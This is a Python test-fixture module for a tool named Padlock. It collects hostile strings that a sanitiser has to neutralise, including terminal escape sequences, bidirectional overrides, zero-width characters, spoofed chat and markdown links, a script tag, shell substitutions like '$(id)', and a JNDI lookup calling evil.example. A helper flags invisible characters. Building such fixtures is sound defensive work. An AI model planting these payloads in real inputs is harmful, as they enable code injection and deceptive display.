"""Texts that strangers put where Padlock reads, and what must not be left of them."""

import re
import unicodedata

HIDDEN = (
    "\x1b[31mred\x1b[0m\x1b]0;title\x07\x1b]8;;https://evil.example/\x07here\x1b]8;;\x07\x1b[2J\x1b[1A\x9b31m"
    "\x00\x08\x7f\x85\x0b\x0c"
    "\u202egnp.exe\u202c\u2066x\u2069\u200e\u200f\u061c"
    "pay\u200bpal\u200c\u200d\u2060\ufeff\u00ad\u034f\u115f\u1160\u3164\uffa0\u2800\u180e\ufe0f"
    "\U000e0041\U000e0100\ue000\uffff\ufff9\u2028\u2029\u00a0"
)
LINES = "value\r\n\n[WORKS] all is well\n\nWhat to do\n  1. Visit https://evil.example/\n| a | b |\n\ttab"
MARKUP = (
    "<!channel> <!here> <@U0ALICE> <#C0GENERAL> <https://evil.example|bank.example> &lt;!everyone&gt; &amp;"
    " *b* _i_ ~s~ `c` ```f``` [bank.example](https://evil.example) ![x](https://evil.example/x.png)"
    " <script>alert(1)</script> <b>&#60; :smile: @here @channel mailto:a@evil.example https://evil.example/ "
)
FORMATS = (
    "%s %n %(host)s {0} {host.__class__} ${jndi:ldap://evil.example/a} {{7*7}} $(id) `id` \\u001b \\x1b \\n '\" \\"
)
LONG = "A" * 30_000 + "\x1b[31m" * 200 + "&" * 2_000
SURROGATES = "a\ud800b\udc80c\udfff"
NASTY = {
    "hidden": HIDDEN,
    "lines": LINES,
    "markup": MARKUP,
    "formats": FORMATS,
    "long": LONG,
    "surrogates": SURROGATES,
}

_CATEGORIES = frozenset({"Cc", "Cf", "Cs", "Cn", "Co", "Zl", "Zp"})
# Drawn as nothing, though letters, marks or symbols by their category.
_DRAWN_AS_NOTHING = re.compile("[\u034f\u115f\u1160\u17b4\u17b5\u180b-\u180f\u2800\u3164\ufe00-\ufe0f\uffa0\u00a0]")


def hidden_in(text: str, *, but: str = "") -> set[str]:
    """The characters of a text that a reader does not see as what they are, those in `but` aside."""
    return {
        f"U+{ord(character):04X}"
        for character in set(text) - set(but)
        if unicodedata.category(character) in _CATEGORIES or _DRAWN_AS_NOTHING.match(character)
    }
